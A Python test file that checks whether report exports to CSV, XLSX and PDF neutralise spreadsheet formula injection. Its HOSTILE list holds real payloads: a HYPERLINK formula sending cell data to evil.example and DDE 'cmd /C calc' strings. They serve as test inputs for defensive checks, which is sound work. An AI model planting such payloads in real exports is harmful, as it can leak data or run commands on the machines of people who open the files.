"""Exports never turn a name into a live spreadsheet formula (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime

from openpyxl import load_workbook

from app.catalog.schemas import RulesRead
from app.reports.exports import to_csv, to_xlsx
from app.reports.schemas import IncidentRow, ReportRead, ReportRow

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _row(key: str, name: str, unit_name: str, downtime: float) -> ReportRow:
    return ReportRow(
        key=key,
        name=name,
        unit_code="12337",
        unit_name=unit_name,
        province_code="33",
        province_name="=1+2",
        availability=0.75,
        counted_minutes=44640.0,
        up_minutes=44000.0,
        downtime_minutes=downtime,
        maintenance_minutes=0.0,
        unknown_minutes=0.0,
        incidents=-1,
        mttr_minutes=None,
        mttr_counted_minutes=None,
        longest_outage_minutes=12.5,
        restored=0,
    )


def _report() -> ReportRead:
    rows = [_row(f"k{i}", name, name, -3.5) for i, name in enumerate(HOSTILE)]
    return ReportRead(
        title='=HYPERLINK("http://evil.example")',
        period="2026-05",
        first_day=date(2026, 5, 1),
        last_day=date(2026, 5, 31),
        clock="24/7",
        group="unit",
        province=None,
        generated_at=datetime(2026, 6, 1, tzinfo=UTC),
        rows=rows,
        totals=_row("tong", "Tổng cộng", "", -3.5),
        incidents=[
            IncidentRow(
                check="=cmd",
                check_name=HOSTILE[0],
                unit_code="12337",
                unit_name="@x",
                started_at=datetime(2026, 5, 2, tzinfo=UTC),
                ended_at=None,
                counted_minutes=5.0,
            )
        ],
        rules=RulesRead(vi="=1+1\nquy tắc", en="=1+1\nrules"),
    )


def test_csv_text_cells_that_look_like_formulas_start_with_a_quote() -> None:
    rows = list(csv.reader(io.StringIO(to_csv(_report()).decode("utf-8-sig"), newline="")))
    body = rows[1 : 1 + len(HOSTILE)]
    assert [r[1] for r in body] == ["'" + name for name in HOSTILE]
    assert [r[3] for r in body] == ["'" + name for name in HOSTILE]
    assert {r[4] for r in body} == {"'=1+2"}
    assert rows[-1][1] == "Tổng cộng"  # ordinary text is left alone
    assert [r[7] for r in body] == ["-3.5"] * len(HOSTILE)  # numbers stay numbers
    assert [r[8] for r in body] == ["-1"] * len(HOSTILE)


def test_xlsx_has_no_formula_cells_and_keeps_the_text_and_numbers() -> None:
    book = load_workbook(io.BytesIO(to_xlsx(_report())))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    units = book["Đơn vị"]
    header = [c.value for c in units[2]]
    name, incidents = header.index("Đơn vị"), header.index("Số sự cố")
    body = list(units.iter_rows(min_row=3, max_row=2 + len(HOSTILE)))
    # the text, intact: no added quote (XML itself reads a stored CR back as LF)
    assert sorted(r[name].value for r in body) == sorted(n.replace("\r", "\n") for n in HOSTILE)
    assert {r[name].data_type for r in body} == {"s"}
    assert [r[incidents].value for r in body] == [-1] * len(HOSTILE)
    assert {r[incidents].data_type for r in body} == {"n"}
    assert book["Tổng hợp"]["A6"].value == '=HYPERLINK("http://evil.example")'
    incident = [c.value for c in book["Sự cố"][3]]
    assert incident[:4] == ["=cmd", HOSTILE[0], "12337", "@x"]
    assert book["Quy tắc"]["A1"].value == "=1+1"


def test_pdf_prints_hostile_names_as_text() -> None:
    """Names are escaped before ReportLab's paragraph markup sees them."""
    from app.config import Settings
    from app.reports.document import ReportDocument, heading_from, render_pdf

    report = _report()
    doc = ReportDocument(report, {"unit": report}, heading_from(Settings(), None, date(2026, 6, 1)))
    body = render_pdf(doc)
    assert body.startswith(b"%PDF")
